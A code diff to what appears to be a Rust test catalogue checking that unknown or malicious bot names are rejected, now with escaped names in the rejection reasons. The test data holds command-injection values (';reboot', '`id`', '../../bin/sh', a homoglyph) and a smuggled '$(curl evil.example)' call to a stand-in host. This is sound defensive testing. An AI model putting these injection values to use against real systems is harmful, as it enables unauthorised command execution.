@@ -417,16 +417,33 @@ fn catalogue(t: &Targets) -> Vec<Case> {
         ),
     );
 
-    // Bot names with path, shell or look-alike characters.
-    for (name, bot) in [
-        ("unknown-bot", "no_such_bot"),
-        ("bot-name-path", "../../bin/sh"),
-        ("bot-name-shell-separator", "ec2_stop_instance;reboot"),
-        ("bot-name-subshell", "$(curl"),
-        ("bot-name-backticks", "`id`"),
-        ("bot-name-homoglyph", "ec2_st\u{43e}p_instance"),
-        ("bot-name-wrong-case", "EC2_STOP_INSTANCE"),
-        ("bot-name-control-char", "ec2_stop_instance\u{7}"),
+    // Bot names with path, shell or look-alike characters; the reason quotes the name with
+    // control and non-ASCII characters escaped, so a look-alike is visible.
+    for (name, bot, quoted) in [
+        ("unknown-bot", "no_such_bot", "no_such_bot"),
+        ("bot-name-path", "../../bin/sh", "../../bin/sh"),
+        (
+            "bot-name-shell-separator",
+            "ec2_stop_instance;reboot",
+            "ec2_stop_instance;reboot",
+        ),
+        ("bot-name-subshell", "$(curl", "$(curl"),
+        ("bot-name-backticks", "`id`", "`id`"),
+        (
+            "bot-name-homoglyph",
+            "ec2_st\u{43e}p_instance",
+            "ec2_st\\u{43e}p_instance",
+        ),
+        (
+            "bot-name-wrong-case",
+            "EC2_STOP_INSTANCE",
+            "EC2_STOP_INSTANCE",
+        ),
+        (
+            "bot-name-control-char",
+            "ec2_stop_instance\u{7}",
+            "ec2_stop_instance\\u{7}",
+        ),
     ] {
         add(
             name,
@@ -434,7 +451,7 @@ fn catalogue(t: &Targets) -> Vec<Case> {
                 name,
                 &finding(name, &format!("AUTO: {bot} $(curl evil.example)")),
             ),
-            rejected(unknown(bot)),
+            rejected(unknown(quoted)),
         );
     }
     add(
